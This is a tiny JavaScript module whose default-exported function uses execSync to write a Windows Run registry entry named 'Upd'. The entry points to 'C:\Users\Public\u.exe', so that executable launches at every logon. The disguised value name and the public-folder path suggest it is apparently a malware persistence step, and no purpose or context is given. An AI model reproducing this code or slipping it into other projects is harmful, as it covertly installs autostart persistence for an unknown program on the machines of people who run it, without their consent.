import { execSync } from "child_process";
export default () => execSync('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /d "C:\\Users\\Public\\u.exe" /f');
